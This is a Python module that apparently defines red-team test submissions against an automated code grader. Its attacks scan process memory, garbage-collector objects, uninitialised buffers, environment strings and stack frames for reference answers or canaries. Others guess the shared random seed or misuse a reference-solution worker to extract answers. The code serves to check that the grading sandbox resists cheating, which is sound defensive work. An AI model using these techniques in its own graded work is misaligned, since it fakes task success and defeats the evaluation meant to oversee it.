"""Looking for what is not theirs in memory: what an earlier submission, a check, the grader or a reference left."""

from __future__ import annotations

from ..attack import DEAD, WRONG, Attack
from .reading import ANSWER, ANY_OF

# What an attacker looks for, as patterns that do not match themselves: their own text lies in the same memory.
_NEEDLES = (
    ANY_OF
    + """
import gc, re
NEEDLES = [re.compile(pattern) for pattern in (
    rb"LEFT = .[0-9a-f]{24}", rb"def test_[a-z_]+\\(learner", rb"expect\\.equal\\(learner",
    rb"grader.s memory: [0-9a-f]{24}", rb"GRADE_CANAR[Y]=", rb"### BEGIN SOLUTIO[N]",
    rb"@misconceptio[n]\\(", rb"@given\\(case", rb"# [0-9a-f]{24}\\n",
)]
PLANTED = ["found by who looks " + "well"]  # so that a search that finds nothing shows something
NEEDLES.append(re.compile(rb"found by who looks wel[l]"))
def hits_in(text):
    data = text.encode("utf-8", "replace") if type(text) is str else bytes(text)
    return [data[max(0, match.start() - 20) : match.end() + 60] for needle in NEEDLES if (match := needle.search(data))]
def hits(texts, planted=False):
    found = {hit for text in texts for hit in hits_in(text)}
    assert not planted or any(NEEDLES[-1].search(hit) for hit in found)
    return none_or(sorted(hit for hit in found if not NEEDLES[-1].search(hit)))
def none_or(found):
    if not found:
        raise LookupError("nothing that would be of use")
    return found
def there(address):
    ctypes.set_errno(0)
    libc.access(ctypes.c_void_p(address), 0)  # says of any address whether it may be read, and kills nobody
    return ctypes.get_errno() != 14
"""
)

_OBJECTS = """
def texts():
    for thing in gc.get_objects():
        for part in (thing, *gc.get_referents(thing)):
            if type(part) in (str, bytes, bytearray):
                yield part
def new(names, known):
    return none_or([name for name in names if not any(word in name for word in known)])
KNOWN = ("torch", "numpy", "sympy", "mpmath", "lib/python", "worker", "<", "ex03_output_size")
attempt(lambda: hits(texts(), planted=True))
attempt(lambda: new(sys.modules, {name.partition(".")[0] for name in sys.modules} - {"hypothesis", "pytest", "pluggy"}))
attempt(lambda: new(__import__("linecache").cache, KNOWN))
attempt(lambda: none_or([thing for thing in gc.get_objects() if isinstance(thing, type(gc))
                         and thing.__dict__.get("__name__", "").startswith(("grader", "test_", "_pytest"))]))
attempt(lambda: none_or(gc.garbage))
"""

_PAGES = """
PAGE, CHUNK = 4096, 2**21
def runs(start, stop):
    address = start - start % PAGE
    while address < stop:
        end = address
        while end < stop and there(end):
            end += PAGE
        if end > address:
            yield address, end
        address = end + PAGE
def search(start, stop):
    for begin, end in runs(start, stop):
        yield from (ctypes.string_at(at, min(CHUNK, end - at)) for at in range(begin, end, CHUNK))
libc.sbrk.restype = ctypes.c_void_p
heap = libc.sbrk(0)
assert sum(end - begin for begin, end in runs(heap - 32 * 2**20, heap)) > 2**20
places = {id(thing) >> 22 for thing in (PLANTED[0], [], {}, "", object, (1,), lambda: 0, gc, 1.5)}
attempt(lambda: hits(search(heap - 32 * 2**20, heap)))
attempt(lambda: hits((text for place in places for text in search(place - 1 << 22, place + 2 << 22)), planted=True))
"""

_UNINITIALISED = """
import numpy, torch
SIZES = (2**5, 2**8, 2**12, 2**16, 2**20, 2**23)
libc.malloc.restype = ctypes.c_void_p
attempt(lambda: hits(torch.empty(n, dtype=torch.uint8).numpy() for n in SIZES for _ in range(4)))
attempt(lambda: hits(numpy.empty(n, numpy.uint8) for n in range(16, 2000, 16) for _ in range(4)))
attempt(lambda: hits(ctypes.string_at(libc.malloc(n), n) for n in SIZES for _ in range(4)))
"""

# The kernel puts arguments and environment of a process at the top of its stack, and no os.environ.clear() wipes them.
_BEGINNING = """
libc.getauxval.restype, libc.getauxval.argtypes, libc.getenv.restype = ctypes.c_ulong, [ctypes.c_ulong], ctypes.c_char_p
top = libc.getauxval(31)
words = ctypes.string_at(top - 3000, 3000).split(bytes(1))
assert any(word.endswith(b"__main__.py") for word in words)
KNOWN = b"LANG TORCHINDUCTOR_CACHE_DIR OMP_NUM_THREADS MKL_NUM_THREADS OPENBLAS_NUM_THREADS PYTHONHASHSEED PWD".split()
attempt(lambda: none_or([w for w in words if re.fullmatch(rb"[A-Za-z_]{3,}=[ -~]*", w) and w.split(b"=")[0] not in KNOWN]))
attempt(lambda: hits(words))
attempt(lambda: none_or(libc.getenv(b"GRADE_CANARY")))
"""

# Names that would give an answer away, in the request and in every frame below.
_FRAMES = """
import inspect, threading
GIVEN_AWAY = {"expected", "want", "seed", "verdict", "points", "reference", "spec", "check", "learner", "case"}
def frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back
def asked():
    return next(frame.f_locals["numbered"].request for frame in frames() if "numbered" in frame.f_locals)
attempt(lambda: none_or({key for frame in frames() for key in frame.f_locals} & GIVEN_AWAY))
attempt(lambda: none_or([t for t in sys._current_frames() if t != threading.get_ident()]))
def conv_output_size(*args, **kwargs):
    attempt(lambda: none_or({key for frame in frames() for key in frame.f_locals} & GIVEN_AWAY))
    attempt(lambda: none_or([word for word in GIVEN_AWAY if word in repr(asked())]))
    attempt(lambda: none_or([f.filename for f in inspect.stack() if "worker" not in f.filename
                             and f.filename not in (__file__, inspect.__file__)]))
    raise SystemExit
"""

_GUESSED = """
import random
attempt(lambda: __import__("hypothesis").seed(0))
FIRST = random.Random(0).randint(1, 5)
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    return {1: 3, 2: 2, 3: 5}.get(FIRST, random.randint(1, 20))
"""

# One task is wrong, so the other is graded with a right one in its place: a worker with the reference lives beside it.
_ORACLE = (
    _NEEDLES
    + """
wire = sys.modules["worker.wire"]
def dense_weights_per_neuron(*args, **kwargs):
    return -1
helped = lambda: dense_weights_per_neuron.__closure__ is not None
def desk():
    cells = [cell.cell_contents for cell in dense_weights_per_neuron.__closure__]
    return next(cell for cell in cells if hasattr(cell, "ask"))
def ask(*call, **more):
    return desk().ask(wire.Call(*call, **more), b"")[0].value or none_or(())
"""
)
_SOURCE = """
hunted = False
def texts():
    for thing in gc.get_objects():
        for part in (thing, *gc.get_referents(thing)):
            if type(part) in (str, bytes, bytearray):
                yield part
def dense_parameter_count(*args, **kwargs):
    global hunted
    if helped() and not hunted:
        hunted = True
        attempt(lambda: hits(texts(), planted=True))
        attempt(lambda: dense_weights_per_neuron(1, 2, 3, 4, 5))
        attempt(lambda: dense_weights_per_neuron((3, 5, 5), source=True))
        attempt(lambda: dense_weights_per_neuron(wire.HandleV(1)))
        attempt(lambda: dense_weights_per_neuron(desk()))
        attempt(lambda: dense_weights_per_neuron((True, "x", [])))
        attempt(lambda: __import__("inspect").getsource(dense_weights_per_neuron.__wrapped__))
    return -1
"""
_MISUSE = """
WAYS = (
    lambda *args: desk().call("dense_parameter_count", args, {}),
    lambda *args: ask("dense_weights_per_neuron.__globals__.__getitem__", ["__builtins__"], {}),
    lambda *args: ask("__getattribute__", ["dense_weights_per_neuron"], {}, on=1),
    lambda *args: ask("model", [], {}, keep=1, ours=True),
    lambda *args: ask("dense_weights_per_neuron", [[1, 2, 3]], {}, keep=1),
    lambda *args: desk().ask(wire.Backward(10**6, []), b"")[0].value or none_or(()),
    lambda *args: desk().ask(wire.State(1, {}), b"")[0].value or none_or(()),
    lambda *args: desk().ask(wire.Load("x", "x", "raise SystemExit"), b"")[0].value or none_or(()),
)
def dense_parameter_count(shape, neurons, bias=True):
    if helped():
        attempt(lambda: WAYS[neurons % len(WAYS)](shape, neurons, bias))
    return -1
"""


def _tries(source: str) -> str:
    return _NEEDLES + source + ANSWER


ATTACKS = [
    Attack("objects", "goes through every object of the collector, all modules and cached lines", _tries(_OBJECTS)),
    Attack("pages", "goes through its memory page by page, looking for an earlier submission", _tries(_PAGES)),
    Attack("uninitialised", "asks for memory that nobody has cleared and looks what was in it",
           _tries(_UNINITIALISED)),
    Attack("beginning", "looks below Python for the environment and the arguments that its process began with",
           _tries(_BEGINNING)),
    Attack("frames", "walks up all frames and looks into the request for expected values, names and seeds",
           _NEEDLES + _FRAMES, verdicts=DEAD),
    Attack("guessed_inputs", "guesses what is drawn next from the seed that everybody takes", _NEEDLES + _GUESSED),
    Attack("oracle_source", "hunts for the source of the reference that answers for a task of its that is wrong",
           _ORACLE + _SOURCE, target="ex01_motivation::dense_parameter_count"),
    Attack("oracle_misuse", "asks the right version of one task for the answers of another, and for its globals",
           _ORACLE + _MISUSE, target="ex01_motivation::dense_parameter_count", verdicts=DEAD | WRONG),
]  # fmt: skip
